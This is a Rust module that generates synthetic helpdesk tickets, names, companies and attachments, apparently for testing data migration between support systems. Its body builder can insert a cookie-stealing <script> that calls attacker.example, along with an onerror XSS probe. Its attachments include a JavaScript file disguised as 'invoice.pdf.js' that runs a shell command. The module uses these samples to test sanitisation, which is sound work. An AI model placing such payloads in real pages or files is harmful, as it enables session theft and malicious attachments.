//! Words for the generator: names, companies, places, subjects, message bodies, file contents and
//! the ugly strings (invisible and control characters, scripts, inline images, non-Latin text).
//!
//! Everything here is a pure function of an [`Rng`], so the platforms share one vocabulary and the
//! same seed tells the same story on every platform.

use std::fmt::Write as _;

use super::rng::Rng;

/// The writing system and language of a text.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Lang {
    /// English.
    English,
    /// German.
    German,
    /// French.
    French,
    /// Greek.
    Greek,
    /// Russian (Cyrillic).
    Russian,
    /// Japanese.
    Japanese,
    /// Arabic (right to left).
    Arabic,
}

impl Lang {
    /// Odoo's language code for the Latin languages; the non-Latin ones fall back to English
    /// because the lock only lists `en_US`, `de_DE` and `fr_FR`.
    pub fn odoo_code(self) -> &'static str {
        match self {
            Lang::German => "de_DE",
            Lang::French => "fr_FR",
            _ => "en_US",
        }
    }

    /// The short code used by OTRS preferences and TOPdesk languages.
    pub fn short_code(self) -> &'static str {
        match self {
            Lang::English => "en",
            Lang::German => "de",
            Lang::French => "fr",
            Lang::Greek => "el",
            Lang::Russian => "ru",
            Lang::Japanese => "ja",
            Lang::Arabic => "ar",
        }
    }
}

/// Latin first names (with a few diacritics, which are not ugly, just normal).
pub const FIRST_NAMES: &[&str] = &[
    "Anna", "Ben", "Clara", "David", "Elif", "Felix", "Greta", "Hannah", "Ivan", "Jonas", "Katrin", "Lukas", "Marie",
    "Noah", "Olga", "Paul", "Quentin", "Rosa", "Sven", "Tanja", "Ulrich", "Vera", "Wim", "Xenia", "Yusuf", "Zoé",
    "Amélie", "Björn", "Chloé", "Dörte", "Émile", "Fatima", "Gustav", "Helena", "Inès", "Jürgen", "Karim", "Léa",
    "Mateo", "Nora", "Oskar", "Priya", "Rafael", "Søren", "Teresa",
];

/// Latin last names.
pub const LAST_NAMES: &[&str] = &[
    "Schmidt",
    "Meyer",
    "Dubois",
    "Martin",
    "Smith",
    "Jones",
    "Müller",
    "Weber",
    "Fischer",
    "Bernard",
    "Moreau",
    "Taylor",
    "Brown",
    "Wagner",
    "Becker",
    "Hoffmann",
    "Lefèvre",
    "Garcia",
    "Rossi",
    "Kowalski",
    "Novak",
    "Jansen",
    "de Vries",
    "O'Brien",
    "Nguyen",
    "Okafor",
    "Lindqvist",
    "Schäfer",
    "Petit",
    "Walker",
    "Wright",
    "Hall",
    "Young",
    "Koch",
    "Richter",
    "Laurent",
    "Fontaine",
    "Evans",
    "Zimmermann",
    "Krüger",
    "Dupont",
    "Clarke",
    "Vogel",
];

/// Names in non-Latin scripts with the ASCII local part used for their e-mail addresses:
/// `(first, last, email local part)`.
pub fn non_latin_names(lang: Lang) -> &'static [(&'static str, &'static str, &'static str)] {
    match lang {
        Lang::Greek => &[
            ("Γιώργος", "Παπαδόπουλος", "g.papadopoulos"),
            ("Ελένη", "Νικολάου", "eleni.nikolaou"),
            ("Δημήτρης", "Αντωνίου", "d.antoniou"),
            ("Κατερίνα", "Γεωργίου", "k.georgiou"),
        ],
        Lang::Russian => &[
            ("Алексей", "Смирнов", "a.smirnov"),
            ("Наталья", "Иванова", "n.ivanova"),
            ("Дмитрий", "Кузнецов", "d.kuznetsov"),
            ("Ольга", "Попова", "olga.popova"),
        ],
        Lang::Japanese => &[
            ("太郎", "山田", "taro.yamada"),
            ("花子", "佐藤", "hanako.sato"),
            ("健", "鈴木", "ken.suzuki"),
            ("美咲", "高橋", "misaki.takahashi"),
        ],
        Lang::Arabic => &[
            ("محمد", "الحسن", "m.alhassan"),
            ("فاطمة", "الزهراء", "f.alzahra"),
            ("عمر", "خليل", "omar.khalil"),
            ("ليلى", "منصور", "layla.mansour"),
        ],
        _ => &[],
    }
}

/// Company name stems and legal forms.
const COMPANY_STEMS: &[&str] = &[
    "Nordwind",
    "Blue Harbor",
    "Alpenglanz",
    "Cedar",
    "Kestrel",
    "Lumen",
    "Meridian",
    "Oakfield",
    "Polaris",
    "Quarry",
    "Riverside",
    "Silberstein",
    "Tannenhof",
    "Uplink",
    "Vantage",
    "Westbrook",
    "Zephyr",
    "Brightwater",
    "Fernweh",
    "Grünfeld",
    "Horizon",
    "Iris",
    "Juniper",
    "Kranich",
    "Larkspur",
    "Mosaik",
    "Northgate",
    "Orchid",
    "Pinnacle",
];
const COMPANY_KINDS: &[&str] =
    &["Logistik", "Consulting", "Software", "Foods", "Energy", "Medical", "Textiles", "Robotics", "Media", "Bau"];
const LEGAL_FORMS: &[&str] = &["GmbH", "AG", "Ltd", "Inc.", "SARL", "S.A.", "B.V.", "KG", "LLC", "SE"];

/// A company name and the slug used for its mail domain.
pub fn company(rng: &mut Rng) -> (String, String) {
    let stem = rng.pick(COMPANY_STEMS);
    let kind = rng.pick(COMPANY_KINDS);
    let form = rng.pick(LEGAL_FORMS);
    let name = format!("{stem} {kind} {form}");
    (name, slug(&format!("{stem}-{kind}")))
}

/// Non-Latin company names for customers whose case asks for one.
pub fn non_latin_company(lang: Lang, rng: &mut Rng) -> Option<&'static str> {
    let names: &[&str] = match lang {
        Lang::Greek => &["Ωμέγα Τεχνική Α.Ε.", "Αιγαίο Λογιστική Ε.Π.Ε."],
        Lang::Russian => &["ООО «Северный ветер»", "АО «Техносфера»"],
        Lang::Japanese => &["株式会社さくらシステム", "富士テック合同会社"],
        Lang::Arabic => &["شركة النخيل للتجارة", "مؤسسة الأفق للتقنية"],
        _ => return None,
    };
    Some(*rng.pick(names))
}

/// Lowercase ASCII letters and digits of `text`, other runs become one `-`; letters with
/// diacritics lose them.
pub fn slug(text: &str) -> String {
    let mut out = String::new();
    for c in text.chars() {
        let c = match c {
            'ä' | 'Ä' | 'á' | 'à' | 'â' => 'a',
            'ö' | 'Ö' | 'ó' | 'ò' | 'ô' | 'ø' => 'o',
            'ü' | 'Ü' | 'ú' | 'ù' | 'û' => 'u',
            'é' | 'è' | 'ê' | 'ë' | 'É' => 'e',
            'í' | 'ì' | 'î' | 'ï' => 'i',
            'ç' => 'c',
            'ß' => 's',
            c => c.to_ascii_lowercase(),
        };
        if c.is_ascii_alphanumeric() {
            out.push(c);
        } else if !out.ends_with('-') && !out.is_empty() {
            out.push('-');
        }
    }
    out.trim_end_matches('-').to_owned()
}

/// Top-level domains reserved for documentation (RFC 2606), so no generated address is real.
pub const DOMAINS: &[&str] = &["example.com", "example.org", "example.net", "example"];

/// Cities with their zip code pattern and Odoo country id.
pub const CITIES: &[(&str, &str, &str, i64)] = &[
    ("Berlin", "10115", "DE", 57),
    ("Hamburg", "20095", "DE", 57),
    ("München", "80331", "DE", 57),
    ("Köln", "50667", "DE", 57),
    ("Paris", "75002", "FR", 75),
    ("Lyon", "69002", "FR", 75),
    ("London", "EC1A 1BB", "GB", 233),
    ("Manchester", "M1 1AE", "GB", 233),
    ("New York", "10001", "US", 234),
    ("Amsterdam", "1012 AB", "NL", 166),
    ("Wien", "1010", "AT", 13),
    ("Zürich", "8001", "CH", 44),
];

/// The English name of a country code used in [`CITIES`].
pub fn country_name(code: &str) -> &'static str {
    match code {
        "DE" => "Germany",
        "FR" => "France",
        "GB" => "United Kingdom",
        "US" => "United States",
        "NL" => "Netherlands",
        "AT" => "Austria",
        "CH" => "Switzerland",
        _ => "Germany",
    }
}

/// Street names.
pub const STREETS: &[&str] = &[
    "Hauptstraße",
    "Rue de la Paix",
    "High Street",
    "Bahnhofstraße",
    "Main Street",
    "Kaiserdamm",
    "Rue Victor Hugo",
    "Station Road",
    "Lindenallee",
    "Keizersgracht",
    "Ringstraße",
    "Bahnhofplatz",
];

/// Job positions.
pub const JOBS: &[&str] = &[
    "Office Manager",
    "Head of IT",
    "Accountant",
    "Purchasing",
    "CEO",
    "Sales Manager",
    "Warehouse Lead",
    "Project Manager",
    "Assistant",
    "Controller",
];

/// The topic of a ticket: drives its subject and body. The order matches Odoo's tags
/// Bug, Billing, Hardware, Login, Feature Request, Refund, VIP (VIP has no topic of its own).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Topic {
    /// Something is broken.
    Bug,
    /// An invoice question.
    Billing,
    /// A device problem.
    Hardware,
    /// Cannot sign in.
    Login,
    /// A wish.
    Feature,
    /// Money back.
    Refund,
}

impl Topic {
    /// Position among Odoo's tags (`Bug`..`Refund` are tags 1..6).
    pub fn tag_index(self) -> usize {
        self as usize
    }
}

/// A subject line for a topic in a language.
pub fn subject(topic: Topic, lang: Lang, rng: &mut Rng) -> String {
    let n = rng.range(1000, 99_999);
    let options: &[&str] = match (lang, topic) {
        (Lang::German, Topic::Bug) => &["Fehlermeldung beim Speichern", "Export bricht ab", "Seite lädt nicht"],
        (Lang::German, Topic::Billing) => &["Frage zur Rechnung {n}", "Rechnung {n} doppelt erhalten"],
        (Lang::German, Topic::Hardware) => &["Drucker im 2. OG druckt nicht", "Scanner wird nicht erkannt"],
        (Lang::German, Topic::Login) => &["Passwort zurücksetzen", "Kein Zugriff auf das Portal"],
        (Lang::German, Topic::Feature) => &["Wunsch: CSV-Export", "Dunkelmodus möglich?"],
        (Lang::German, Topic::Refund) => &["Rückerstattung für Bestellung {n}", "Gutschrift fehlt"],
        (Lang::French, Topic::Bug) => &["Erreur lors de l'enregistrement", "L'export échoue"],
        (Lang::French, Topic::Billing) => &["Question sur la facture {n}", "Facture {n} reçue deux fois"],
        (Lang::French, Topic::Hardware) => &["L'imprimante ne répond plus", "Écran noir au démarrage"],
        (Lang::French, Topic::Login) => &["Mot de passe oublié", "Impossible de me connecter"],
        (Lang::French, Topic::Feature) => &["Suggestion : export Excel", "Ajouter un mode sombre ?"],
        (Lang::French, Topic::Refund) => &["Remboursement de la commande {n}", "Avoir manquant"],
        (Lang::Greek, _) => &["Πρόβλημα με τον λογαριασμό μου", "Το τιμολόγιο {n} είναι λάθος", "Δεν μπορώ να συνδεθώ"],
        (Lang::Russian, _) => &["Не могу войти в систему", "Вопрос по счёту {n}", "Принтер не печатает"],
        (Lang::Japanese, _) => &["ログインできません", "請求書{n}について", "プリンターが動きません"],
        (Lang::Arabic, _) => &["لا أستطيع تسجيل الدخول", "استفسار عن الفاتورة {n}", "الطابعة لا تعمل"],
        (_, Topic::Bug) => &[
            "Error 500 when saving an order",
            "Export to PDF hangs",
            "Dashboard shows wrong totals",
            "App crashes on startup",
        ],
        (_, Topic::Billing) => &[
            "Question about invoice {n}",
            "Charged twice for invoice {n}",
            "VAT number missing on invoice",
            "Change billing address",
        ],
        (_, Topic::Hardware) => {
            &["Copier <3rd floor> & scanner both offline", "Laptop battery drains fast", "Docking station not detected"]
        }
        (_, Topic::Login) => &["Cannot log in", "Password reset link expired", "2FA code not accepted"],
        (_, Topic::Feature) => &["Feature request: bulk edit", "Could you add a dark mode?", "API access for our ERP"],
        (_, Topic::Refund) => &["Refund for order {n}", "Credit note still missing", "Cancel my subscription"],
    };
    rng.pick(options).replace("{n}", &n.to_string())
}

/// Sentences for bodies: `(greeting, lines for the topic, closing)` per language.
fn sentences(lang: Lang, topic: Topic) -> (&'static str, &'static [&'static str], &'static str) {
    match lang {
        Lang::German => (
            "Guten Tag",
            &[
                "seit heute Morgen funktioniert es nicht mehr.",
                "Könnten Sie sich das bitte kurzfristig ansehen?",
                "Die Kollegen im Büro haben dasselbe Problem.",
                "Im Anhang finden Sie einen Screenshot.",
                "Vielen Dank für die schnelle Rückmeldung.",
            ],
            "Mit freundlichen Grüßen",
        ),
        Lang::French => (
            "Bonjour",
            &[
                "depuis ce matin cela ne fonctionne plus.",
                "Pourriez-vous regarder rapidement ?",
                "Mes collègues ont le même problème.",
                "Vous trouverez une capture d'écran en pièce jointe.",
                "Merci pour votre réponse rapide.",
            ],
            "Cordialement",
        ),
        Lang::Greek => (
            "Καλησπέρα σας",
            &[
                "από σήμερα το πρωί δεν λειτουργεί τίποτα.",
                "Μπορείτε να το ελέγξετε το συντομότερο;",
                "Ευχαριστώ πολύ για τη βοήθεια.",
            ],
            "Με εκτίμηση",
        ),
        Lang::Russian => (
            "Здравствуйте",
            &["с утра ничего не работает.", "Посмотрите, пожалуйста, как можно скорее.", "Спасибо за быстрый ответ."],
            "С уважением",
        ),
        Lang::Japanese => (
            "お世話になっております",
            &["今朝から正常に動作しません。", "至急ご確認いただけますでしょうか。", "よろしくお願いいたします。"],
            "敬具",
        ),
        Lang::Arabic => (
            "مرحباً",
            &["منذ صباح اليوم لا يعمل النظام.", "هل يمكنكم التحقق من ذلك في أقرب وقت؟", "شكراً جزيلاً على المساعدة."],
            "مع أطيب التحيات",
        ),
        Lang::English => (
            "Hello",
            match topic {
                Topic::Bug => &[
                    "since this morning the page shows an error when I save.",
                    "I already cleared the cache and tried another browser.",
                    "Steps: open the order, change the quantity, press Save.",
                    "It worked fine last week.",
                ],
                Topic::Billing => &[
                    "the last invoice lists the same licence twice.",
                    "Could you send a corrected invoice to our accounts team?",
                    "Our purchase order number must appear on the invoice.",
                ],
                Topic::Hardware => &[
                    "the printer on the second floor shows a paper jam that is not there.",
                    "We restarted it twice; the display stays orange.",
                    "The serial number is on the sticker at the back.",
                ],
                Topic::Login => &[
                    "I cannot sign in since the password change.",
                    "The reset e-mail never arrives, not even in the spam folder.",
                    "My colleague can log in without problems.",
                ],
                Topic::Feature => &[
                    "it would help us a lot to edit many records at once.",
                    "Is this on your roadmap?",
                    "We would be happy to test an early version.",
                ],
                Topic::Refund => &[
                    "we cancelled within the trial period but were charged anyway.",
                    "Please refund the amount to the original card.",
                    "The order number is in the subject.",
                ],
            },
            "Best regards",
        ),
    }
}

/// Agent answers per language.
fn agent_lines(lang: Lang) -> &'static [&'static str] {
    match lang {
        Lang::German => &[
            "vielen Dank für Ihre Nachricht. Wir prüfen das und melden uns.",
            "das Problem ist behoben. Bitte versuchen Sie es noch einmal.",
            "können Sie uns bitte die genaue Fehlermeldung schicken?",
        ],
        Lang::French => &[
            "merci pour votre message, nous regardons cela.",
            "le problème est résolu, pouvez-vous réessayer ?",
            "pourriez-vous nous envoyer le message d'erreur exact ?",
        ],
        _ => &[
            "thanks for reaching out. We are looking into it.",
            "this is fixed now. Could you try again and let us know?",
            "could you send us the exact error message and a screenshot?",
            "I have forwarded this to our billing team; you will hear from us today.",
            "we restarted the service on our side. It should work again.",
        ],
    }
}

/// Internal note lines (always in English: agents write notes for each other).
const NOTE_LINES: &[&str] = &[
    "Customer called again, seems urgent.",
    "Checked the logs: timeout in the export job.",
    "Waiting for the vendor to confirm the replacement.",
    "Refund approved by finance.",
    "Duplicate of an older ticket, keep open until the customer confirms.",
];

/// Who writes a message.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Role {
    /// The customer's first message.
    Request,
    /// A later customer message.
    CustomerReply,
    /// A public agent answer.
    AgentReply,
    /// An internal note.
    Note,
    /// An automatic acknowledgement.
    AutoAck,
}

/// What goes into a body besides sentences (the ugly parts).
#[derive(Clone, Debug, Default)]
pub struct Extras<'a> {
    /// An inline image as a `data:` URI.
    pub data_image: bool,
    /// An inline image referenced as `cid:<this>`.
    pub cid: Option<&'a str>,
    /// An inline image at this URL (Odoo `/web/image/<id>`, a TOPdesk image URL).
    pub image_url: Option<&'a str>,
    /// A `<script>` element (and an `onerror` handler).
    pub script: bool,
    /// Zero-width characters inside words.
    pub invisible: bool,
    /// Four-byte characters (emoji), which OTRS on MySQL turns into U+FFFD.
    pub emoji: bool,
}

/// A message body as HTML and as plain text; `None` is an empty body.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct Body {
    /// HTML markup.
    pub html: Option<String>,
    /// Plain text (what a text rendering of the HTML shows).
    pub text: Option<String>,
}

/// How an empty body looks.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Empty {
    /// Not empty.
    No,
    /// No value at all.
    Null,
    /// Markup or whitespace that renders as nothing (`<p><br></p>`, spaces).
    Blank,
}

/// A one-pixel PNG (a valid image), for inline images and small attachments.
pub const PIXEL_PNG: &[u8] = &[
    0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44, 0x52, 0x00, 0x00, 0x00,
    0x01, 0x00, 0x00, 0x00, 0x01, 0x08, 0x06, 0x00, 0x00, 0x00, 0x1f, 0x15, 0xc4, 0x89, 0x00, 0x00, 0x00, 0x0d, 0x49,
    0x44, 0x41, 0x54, 0x78, 0x9c, 0x63, 0xf8, 0xcf, 0xc0, 0xf0, 0x1f, 0x00, 0x05, 0x00, 0x01, 0xff, 0x89, 0x99, 0x3d,
    0x1d, 0x00, 0x00, 0x00, 0x00, 0x49, 0x45, 0x4e, 0x44, 0xae, 0x42, 0x60, 0x82,
];

/// Build a body.
pub fn body(rng: &mut Rng, lang: Lang, topic: Topic, role: Role, to: &str, from: &str, extras: &Extras) -> Body {
    let mut paragraphs: Vec<String> = Vec::new();
    match role {
        Role::Request | Role::CustomerReply => {
            let (greeting, lines, closing) = sentences(lang, topic);
            let count = if role == Role::Request { rng.range(2, lines.len().min(4) as i64) } else { 1 };
            let start = rng.index(lines.len());
            let mut text = format!("{greeting},\n");
            for k in 0..count as usize {
                // Sentences are written to follow the greeting; each starts a sentence here.
                let mut chars = lines[(start + k) % lines.len()].chars();
                if k > 0 {
                    text.push(' ');
                }
                text.extend(chars.next().map(|c| c.to_uppercase().collect::<String>()));
                text.push_str(chars.as_str());
            }
            paragraphs.push(text);
            paragraphs.push(format!("{closing}\n{from}"));
        }
        Role::AgentReply => {
            let (greeting, _, closing) = sentences(lang, topic);
            paragraphs.push(format!("{greeting} {to}, {}", rng.pick(agent_lines(lang))));
            paragraphs.push(format!("{closing}\n{from}"));
        }
        Role::Note => paragraphs.push(rng.pick(NOTE_LINES).to_string()),
        Role::AutoAck => paragraphs.push(format!(
            "Dear {to}, we have received your request and will get back to you shortly. \
             Please keep the reference in the subject when you reply."
        )),
    }
    if extras.invisible {
        let first = &mut paragraphs[0];
        *first = insert_invisible(first, rng);
    }
    if extras.emoji {
        paragraphs[0].push_str(" 🙏 👍🏽");
    }
    let mut html = String::new();
    let mut text = String::new();
    for (k, paragraph) in paragraphs.iter().enumerate() {
        let _ = write!(html, "<p>{}</p>", escape_html(paragraph).replace('\n', "<br>"));
        if k > 0 {
            text.push_str("\n\n");
        }
        text.push_str(paragraph);
    }
    if extras.data_image {
        html.push_str("<p><img src=\"data:image/png;base64,");
        html.push_str(&super::base64(PIXEL_PNG));
        html.push_str("\" alt=\"screenshot\" style=\"width: 50%\"></p>");
        text.push_str("\n\n[image: screenshot]");
    }
    if let Some(cid) = extras.cid {
        let _ = write!(html, "<p><img src=\"cid:{cid}\" width=\"320\" height=\"200\"></p>");
        text.push_str("\n\n[image: image001.png]");
    }
    if let Some(url) = extras.image_url {
        let _ = write!(html, "<p><img class=\"img-fluid o_we_custom_image\" src=\"{url}\"></p>");
        text.push_str("\n\n[image]");
    }
    if extras.script {
        html.push_str(
            "<script>fetch('https://attacker.example/steal?c=' + document.cookie)</script>\
             <p><img src=\"x\" onerror=\"alert(1)\">Please see above.</p>",
        );
        text.push_str("\n\nPlease see above.");
    }
    let html = format!("<div>{html}</div>");
    Body { html: Some(html), text: Some(text) }
}

/// A body that is empty in the way `empty` says.
pub fn empty_body(empty: Empty, rng: &mut Rng) -> Body {
    match empty {
        Empty::Null | Empty::No => Body::default(),
        Empty::Blank => {
            let html = *rng.pick(&["<p><br></p>", "<div> </div>", "<p>\u{a0}</p>", "  \n  "]);
            Body { html: Some(html.to_owned()), text: Some(" ".repeat(rng.range(1, 3) as usize)) }
        }
    }
}

/// Escape `&`, `<`, `>` and `"` for HTML text and attributes.
pub fn escape_html(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            c => out.push(c),
        }
    }
    out
}

/// Zero-width characters: space, non-joiner, joiner, byte order mark, left-to-right and
/// right-to-left marks.
pub const INVISIBLE: &[char] = &['\u{200b}', '\u{200c}', '\u{200d}', '\u{feff}', '\u{200e}', '\u{200f}'];

/// C0 control characters that survive JSON but break naive consumers (never NUL, which
/// PostgreSQL text cannot hold): bell, backspace, vertical tab, form feed, escape, unit separator,
/// and DEL.
pub const CONTROLS: &[char] = &['\u{7}', '\u{8}', '\u{b}', '\u{c}', '\u{1b}', '\u{1f}', '\u{7f}'];

/// `text` with one or two zero-width characters inside it (and one at the start).
pub fn insert_invisible(text: &str, rng: &mut Rng) -> String {
    insert_chars(text, INVISIBLE, rng)
}

/// `text` with control characters inside it.
pub fn insert_controls(text: &str, rng: &mut Rng) -> String {
    insert_chars(text, CONTROLS, rng)
}

fn insert_chars(text: &str, set: &[char], rng: &mut Rng) -> String {
    let chars: Vec<char> = text.chars().collect();
    let mut out = String::with_capacity(text.len() + 12);
    out.push(*rng.pick(set));
    let at = if chars.len() > 2 { 1 + rng.index(chars.len() - 1) } else { chars.len() };
    for (k, c) in chars.iter().enumerate() {
        if k == at {
            out.push(*rng.pick(set));
        }
        out.push(*c);
    }
    out
}

/// A phone number in one of several formats.
pub fn phone(rng: &mut Rng) -> String {
    let n = rng.range(1_000_000, 9_999_999);
    match rng.below(4) {
        0 => format!("+49 30 {n}"),
        1 => format!("+33 1 {} {}", n / 10_000, n % 10_000),
        2 => format!("(212) 555-{:04}", n % 10_000),
        _ => format!("0044 20 {n}"),
    }
}

/// A file attached to a message.
#[derive(Clone, Debug, PartialEq)]
pub struct File {
    /// The file name.
    pub name: String,
    /// Its MIME type.
    pub mime: &'static str,
    /// The bytes stored (for the oversized case a small placeholder).
    pub content: Vec<u8>,
    /// The size the source system claims, in bytes (differs from `content.len()` only for the
    /// oversized case).
    pub size: u64,
    /// The content id when the file is an inline image referenced by `cid:`.
    pub content_id: Option<String>,
}

/// The kinds of file the generator attaches.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum FileKind {
    /// A small PDF.
    Pdf,
    /// A PNG screenshot.
    Png,
    /// A text log.
    Log,
    /// A CSV export.
    Csv,
    /// A Windows executable (blocked type).
    Exe,
    /// A batch script (blocked type).
    Bat,
    /// A JavaScript file disguised as a document (blocked type).
    Js,
    /// A file whose claimed size is over 25 MB; only a placeholder is stored.
    Oversized,
    /// An inline image referenced by `cid:`.
    InlineImage,
}

/// The claimed size of the oversized attachment: 30 MiB, over Intercom's 25 MB limit.
pub const OVERSIZED_BYTES: u64 = 30 * 1024 * 1024;

/// Build a file of `kind`; `seq` keeps names apart within a message.
pub fn file(kind: FileKind, rng: &mut Rng, seq: usize) -> File {
    let (name, mime, content): (String, &'static str, Vec<u8>) = match kind {
        FileKind::Pdf => {
            let mut pdf = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n".to_vec();
            let filler = rng.range(200, 3000) as usize;
            pdf.extend(std::iter::repeat_n(b'%', filler));
            pdf.extend_from_slice(b"\ntrailer << /Root 1 0 R >>\n%%EOF\n");
            (format!("{}-{}.pdf", rng.pick(&["invoice", "Rechnung", "contract", "facture"]), rng.range(1000, 9999)), "application/pdf", pdf)
        }
        FileKind::Png => (format!("screenshot{}.png", if seq > 0 { format!(" ({seq})") } else { String::new() }), "image/png", PIXEL_PNG.to_vec()),
        FileKind::Log => {
            let lines = rng.range(5, 60);
            let mut log = String::new();
            for k in 0..lines {
                let _ = writeln!(log, "2026-01-0{} 12:{:02}:{:02} ERROR export job {}: timeout after 30s", 1 + k % 9, k % 60, (k * 7) % 60, rng.hex(8));
            }
            ("error.log".to_owned(), "text/plain", log.into_bytes())
        }
        FileKind::Csv => {
            let mut csv = "sku;quantity;price\n".to_owned();
            for k in 0..rng.range(3, 40) {
                let _ = writeln!(csv, "SKU-{k:04};{};{}.{:02}", rng.range(1, 20), rng.range(1, 500), rng.range(0, 99));
            }
            ("order-lines.csv".to_owned(), "text/csv", csv.into_bytes())
        }
        FileKind::Exe => {
            let mut exe = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00".to_vec();
            let len = rng.range(512, 4096) as usize;
            exe.extend(rng.bytes(len));
            ("setup.exe".to_owned(), "application/x-msdownload", exe)
        }
        FileKind::Bat => (
            "fix-printer.bat".to_owned(),
            "application/x-msdos-program",
            b"@echo off\r\nnet stop spooler\r\ndel /q %systemroot%\\System32\\spool\\PRINTERS\\*\r\nnet start spooler\r\n".to_vec(),
        ),
        FileKind::Js => (
            "invoice.pdf.js".to_owned(),
            "application/javascript",
            b"var shell = new ActiveXObject('WScript.Shell');\nshell.Run('calc.exe');\n".to_vec(),
        ),
        FileKind::Oversized => (
            "site-survey-video.mp4".to_owned(),
            "video/mp4",
            format!("placeholder: the source claims {OVERSIZED_BYTES} bytes; only this note is stored\n").into_bytes(),
        ),
        FileKind::InlineImage => ("image001.png".to_owned(), "image/png", PIXEL_PNG.to_vec()),
    };
    let size = if kind == FileKind::Oversized { OVERSIZED_BYTES } else { content.len() as u64 };
    let content_id = (kind == FileKind::InlineImage)
        .then(|| format!("image001.png@01DA{}.{}", rng.hex(4).to_uppercase(), rng.hex(8).to_uppercase()));
    File { name, mime, content, size, content_id }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn slugs_are_ascii() {
        assert_eq!(slug("Grünfeld-Logistik"), "grunfeld-logistik");
        assert_eq!(slug("Blue Harbor & Co."), "blue-harbor-co");
    }

    #[test]
    fn invisible_characters_are_inserted() {
        let mut rng = Rng::new(1);
        let text = insert_invisible("Login fails", &mut rng);
        assert!(text.chars().any(|c| INVISIBLE.contains(&c)));
        assert_eq!(text.chars().filter(|c| !INVISIBLE.contains(c)).collect::<String>(), "Login fails");
    }

    #[test]
    fn bodies_carry_their_extras() {
        let mut rng = Rng::new(3);
        let extras = Extras { data_image: true, cid: Some("image001.png@01DA"), script: true, ..Extras::default() };
        let body = body(&mut rng, Lang::English, Topic::Bug, Role::Request, "Support", "Jane Doe", &extras);
        let html = body.html.unwrap();
        assert!(html.contains("data:image/png;base64,iVBOR"));
        assert!(html.contains("cid:image001.png@01DA"));
        assert!(html.contains("<script>"));
        assert!(!body.text.unwrap().contains("<script>"));
    }
}
